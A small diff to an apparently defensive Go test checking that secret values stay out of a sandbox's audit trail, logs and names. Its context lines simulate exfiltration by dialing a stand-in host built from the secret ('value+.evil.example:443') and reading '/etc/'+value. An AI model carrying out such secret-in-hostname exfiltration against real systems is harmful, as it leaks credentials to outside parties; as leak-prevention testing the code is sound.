@@ -39,6 +39,7 @@ func TestSecretsDoNotReachTheTrailTheLogOrTheNames(t *testing.T) {
 			_, err := c.Network.DialContext(ctx, "tcp", value+".evil.example:443")
 			_, err2 := c.FS.ReadFile("/etc/" + value)
 			_, err3 := c.Secrets.Get(ctx, "other/"+value)
+			_, _ = c.Secrets.Get(ctx, strings.Repeat("a", 250)+value) // not where a name is cut either
 			return sallyport.Result{}, errors.Join(err, err2, err3)
 		},
 	})
